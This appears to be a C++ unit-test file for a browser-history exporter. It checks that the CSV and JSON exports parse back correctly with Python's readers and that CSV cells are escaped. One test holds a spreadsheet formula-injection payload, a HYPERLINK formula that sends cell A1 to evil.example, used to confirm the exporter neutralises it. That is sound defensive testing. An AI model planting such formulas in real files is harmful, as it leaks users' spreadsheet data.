#include "store/history_export.h"

#include <array>
#include <cstdio>
#include <string>
#include <vector>

#include <gtest/gtest.h>
#include <sys/wait.h>
#include <unistd.h>

#include "support/temp_dir.h"

namespace qarvex {
namespace {

// Reads both files with Python's own csv and json modules and prints every row as its
// fields' UTF-8 bytes in hex, so the comparison below cannot be fooled by our own parser.
constexpr const char* kReader = R"(
import csv, json, sys
def show(fields):
    print(" ".join(f.encode("utf-8").hex() for f in fields))
with open(sys.argv[1], encoding="utf-8-sig", newline="") as f:
    rows = list(csv.reader(f))
print("csv")
for row in rows:
    show(row)
with open(sys.argv[2], encoding="utf-8") as f:
    objects = json.load(f)
print("json")
for o in objects:
    show([o[k] for k in ("kind", "name", "address", "group", "date")])
)";

// Runs python3 with an argument vector and returns what it printed.
std::string RunPython(const std::vector<std::string>& args) {
    int out[2];
    if (pipe(out) != 0) {
        return {};
    }
    const pid_t child = fork();
    if (child == 0) {
        dup2(out[1], STDOUT_FILENO);
        close(out[0]);
        close(out[1]);
        std::vector<char*> argv;
        std::string python = access("/usr/bin/python3", X_OK) == 0 ? "/usr/bin/python3" : "python3";
        argv.push_back(python.data());
        std::vector<std::string> copies = args;
        for (std::string& arg : copies) {
            argv.push_back(arg.data());
        }
        argv.push_back(nullptr);
        execvp(argv[0], argv.data());
        _exit(127);
    }
    close(out[1]);
    std::string text;
    std::array<char, 4096> buffer{};
    ssize_t got = 0;
    while ((got = read(out[0], buffer.data(), buffer.size())) > 0) {
        text.append(buffer.data(), static_cast<std::size_t>(got));
    }
    close(out[0]);
    int status = 0;
    waitpid(child, &status, 0);
    return text;
}

std::string Hex(const std::string& bytes) {
    std::string hex;
    char pair[3];
    for (const unsigned char c : bytes) {
        std::snprintf(pair, sizeof pair, "%02x", c);
        hex += pair;
    }
    return hex;
}

std::string Row(const std::vector<std::string>& fields) {
    std::string line;
    for (std::size_t i = 0; i < fields.size(); ++i) {
        line += (i ? " " : "") + Hex(fields[i]);
    }
    return line + "\n";
}

TMyDoc Doc(std::int32_t type, std::string path, std::string name, std::string root,
           std::string date) {
    TMyDoc doc;
    doc.DocType = type;
    doc.Path = std::move(path);
    doc.DisplayName = std::move(name);
    doc.RootPath = std::move(root);
    doc.Date = std::move(date);
    return doc;
}

TEST(HistoryExportTest, StandardReadersGetTheSameEntriesBack) {
    const DocTable docs = {
        Doc(dkWebPage, "http://news.example/a?x=1,2", "新闻, \"头条\"\r\n第二行", "news.example",
            "2026-12-08"),
        Doc(dkSoftware, "/usr/bin/gimp", "GIMP \\ 图像\t编辑", "", "2026-11-30"),
        Doc(dkFolderOrFile, "/home/u/文档/a\"b", "/home/u/文档/a\"b", "/home/u/文档", "2025-01-01"),
    };
    test::TempDir dir;
    const std::string csv = dir.File("历史.CSV");
    const std::string json = dir.File("历史.json");
    ASSERT_TRUE(ExportHistory(docs, csv));
    ASSERT_TRUE(ExportHistory(docs, json));
    EXPECT_FALSE(ExportHistory(docs, dir.File("history.txt")));
    EXPECT_EQ(dir.Read("历史.CSV").substr(0, 3), "\xEF\xBB\xBF");

    std::string expected = "csv\n" + Row({"类型", "名称", "地址", "分组", "日期"});
    std::string rows;
    for (const TMyDoc& doc : docs) {
        rows +=
            Row({ExportKindName(doc.DocType), doc.DisplayName, doc.Path, doc.RootPath, doc.Date});
    }
    expected += rows + "json\n" + rows;
    EXPECT_EQ(RunPython({"-c", kReader, csv, json}), expected);
    EXPECT_EQ(ExportKindName(dkWebPage), "网页");
}

// A page title is whatever the page chose: opened in a spreadsheet, the export must not
// run it as a formula (one that sends the sheet's cells to another site when clicked).
TEST(HistoryExportTest, CellsThatLookLikeFormulasStayText) {
    const std::string link = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")";
    const DocTable docs = {Doc(dkWebPage, "http://evil.example/", link, "+evil", "-1"),
                           Doc(dkWebPage, "@SUM(A1)", "\tTab", "\rCR", "2026-12-08")};
    EXPECT_EQ(HistoryAsCsv(docs),
              "\xEF\xBB\xBF类型,名称,地址,分组,日期\r\n"
              "网页,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\","
              "http://evil.example/,'+evil,'-1\r\n"
              "网页,'\tTab,'@SUM(A1),\"'\rCR\",2026-12-08\r\n");
    // The JSON export is for programs, which take the text as it is.
    EXPECT_NE(HistoryAsJson(docs).find("\"name\": \"=HYPERLINK("), std::string::npos);
}

TEST(HistoryExportTest, AnEmptyHistoryGivesAHeaderAndAnEmptyArray) {
    EXPECT_EQ(HistoryAsCsv({}), "\xEF\xBB\xBF类型,名称,地址,分组,日期\r\n");
    EXPECT_EQ(HistoryAsJson({}), "[]\n");
}

}  // namespace
}  // namespace qarvex
